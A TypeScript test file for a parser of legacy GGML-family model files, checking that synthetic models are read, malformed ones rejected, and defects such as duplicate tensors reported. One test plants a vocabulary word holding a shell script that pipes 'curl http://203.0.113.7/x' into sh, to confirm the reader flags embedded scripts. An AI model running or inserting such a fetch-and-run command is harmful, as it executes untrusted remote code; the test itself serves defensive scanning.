import { describe, expect, it } from 'vitest';
import { createBudget, OverBudgetError } from '../../kernel/budget.ts';
import { type ByteSource, MalformedError, sourceOf } from '../../kernel/bytes.ts';
import { ggmlFormat } from './ggml-reader.ts';

const u32 = (...values: readonly number[]): number[] =>
  values.flatMap((value) => [value & 255, (value >>> 8) & 255, (value >>> 16) & 255, (value >>> 24) & 255]);
const letters = (text: string): number[] => [...new TextEncoder().encode(text)];
const mark = (kind: string): number[] => letters(Array.from(kind).reverse().join(''));

interface Shape {
  readonly kind?: 'ggml' | 'ggmf' | 'ggjt' | 'ggla';
  readonly version?: number;
  readonly type?: number;
  /** Bytes of a tensor of 32 numbers, by its type. */
  readonly bytes?: number;
  readonly words?: readonly string[];
  readonly wide?: number;
  readonly layers?: number;
  readonly fill?: number;
}

/** A model as the loader takes it: settings, words, and twelve tensors. */
function modelOf({ kind = 'ggjt', version = 3, type = 0, bytes = 128, ...rest }: Shape = {}): Uint8Array {
  const { words = ['<unk>', 'a longer word than most'], wide = 32, layers = 1, fill = 0 } = rest;
  const file = [...mark(kind), ...(kind === 'ggml' ? [] : u32(version))];
  if (kind === 'ggla') file.push(...u32(8, 16));
  else file.push(...u32(words.length, wide, 256, 4, layers, 8, 1));
  if (kind !== 'ggla')
    for (const word of words)
      file.push(...u32(letters(word).length), ...letters(word), ...(kind === 'ggml' ? [] : u32(0)));
  const add = (name: string, shape: readonly number[], size: number): void => {
    file.push(...u32(shape.length, name.length, type, ...shape), ...letters(name));
    if (kind === 'ggjt' || kind === 'ggla') while (file.length % 32 !== 0) file.push(fill);
    file.push(...Array.from({ length: size }, () => 7));
  };
  add('tok_embeddings.weight', [32, words.length], bytes * words.length);
  for (let at = 1; at < 12; at++) add(`t${at}`, [32], bytes);
  return Uint8Array.from(file);
}

const read = (bytes: Uint8Array) => {
  const head = bytes.subarray(0, 64);
  expect(ggmlFormat.claims('model.bin', head, bytes.length)).toBe(true);
  return ggmlFormat.read(sourceOf(bytes), { path: 'model.bin', budget: createBudget(() => 0) });
};

describe('the reader of GGML before GGUF', () => {
  it.each<[string, Shape]>([
    ['no version', { kind: 'ggml', version: 0 }],
    ['halves', { kind: 'ggml', version: 0, type: 1, bytes: 64 }],
    ['quarters', { kind: 'ggml', version: 0, type: 2, bytes: 20 }],
    ['scores', { kind: 'ggmf', version: 1, type: 3, bytes: 24 }],
    ['boundaries', { version: 1, type: 2, bytes: 20 }],
    ['a type that was given up', { version: 1, type: 4, bytes: 20 }],
    ['the second version', { version: 2, type: 8, bytes: 36 }],
    ['the third version', { version: 3, type: 8, bytes: 34 }],
    ['fives', { version: 3, type: 7, bytes: 24 }],
  ])('proves a model of llama with %s', async (_, shape) => {
    const { facts, defects, parts } = await read(modelOf(shape));
    expect(defects).toEqual([]);
    expect(parts).toEqual([]);
    expect(facts).toMatchObject({ kind: shape.kind ?? 'ggjt', version: shape.version, words: 2, parameters: 13 * 32 });
    expect(facts.tensors).toHaveLength(12);
  });

  it('proves an adapter', async () => {
    const { facts, defects } = await read(modelOf({ kind: 'ggla', version: 1 }));
    expect(defects).toEqual([]);
    expect(facts).toMatchObject({ kind: 'ggla', words: 0 });
  });

  it.each<[string, Uint8Array]>([
    ['bytes behind the last tensor', Uint8Array.from([...modelOf(), 1, 2, 3])],
    ['a file that was cut', modelOf().subarray(0, -1)],
    ['blocks of another version', modelOf({ version: 2, type: 8, bytes: 34 })],
    ['a type that the version has not', modelOf({ version: 2, type: 4, bytes: 20 })],
    ['a version that nobody knows', modelOf({ version: 4 })],
    ['a table of words that does not fit', modelOf({ wide: 64 })],
    ['a word that is no word', modelOf({ words: ['x'.repeat(5_000)] })],
    ['words that the file cannot hold', Uint8Array.from([...mark('ggml'), ...u32(0xff_ff_ff, 32, 1, 1, 1, 1, 1)])],
    ['another model', Uint8Array.from([...mark('ggml'), ...u32(51_865, 1_500, 384, 6, 4, 448), ...u32(0, 0, 0, 0)])],
    ['a state of a conversation', Uint8Array.from([...mark('ggsn'), ...u32(1, 0, 0)])],
    ['the other order of bytes', Uint8Array.from([...letters('ggjt'), 0, 0, 0, 3, 0, 0, 0, 1])],
  ])('reads nothing of %s', async (_, bytes) => {
    await expect(read(bytes)).rejects.toBeInstanceOf(MalformedError);
  });

  it('tells of tensors that its settings do not have, of doubles and of what fills up', async () => {
    const codes = async (shape: Shape) => (await read(modelOf(shape))).defects.map(({ code }) => code);
    expect(await codes({ layers: 2 })).toEqual(['tensor-count']);
    expect(await codes({ fill: 65 })).toContain('filled-padding');
    const file = modelOf({ kind: 'ggml', version: 0 });
    const at = file.findLastIndex(
      (byte, index) => byte === 0x31 && file[index - 1] === 0x31 && file[index - 2] === 0x74,
    );
    const twice = file.with(at, 0x30);
    expect((await read(twice)).defects.map(({ code }) => code)).toEqual(['duplicate-tensor']);
  });

  it('hands out a file that is a word', async () => {
    const { parts } = await read(modelOf({ words: ['#!/bin/sh\ncurl http://203.0.113.7/x | sh\n', 'b'] }));
    expect(parts).toHaveLength(1);
  });

  it('claims no text that begins alike', () => {
    for (const text of ['ggml is a library', 'ggjt', 'lmgg words', 'ggmf\n'])
      expect(ggmlFormat.claims('a.txt', new TextEncoder().encode(text), text.length)).toBe(false);
  });

  it('takes no memory for what a file of no size tells', async () => {
    const file = modelOf();
    const vast: ByteSource = { ...sourceOf(file), size: 2 ** 40, read: async (_, length) => new Uint8Array(length) };
    const head = Uint8Array.from([...mark('ggml'), ...u32(0x0f_ff_ff, 32, 1, 1, 1, 1, 1)]);
    const source: ByteSource = {
      ...vast,
      read: async (start, length) => {
        const bytes = new Uint8Array(length);
        if (start < head.length) bytes.set(head.subarray(start, start + length));
        return bytes;
      },
    };
    const run = ggmlFormat.read(source, { path: 'x', budget: createBudget(() => 0) });
    await expect(run).rejects.toSatisfy((error) => error instanceof MalformedError || error instanceof OverBudgetError);
  });
});
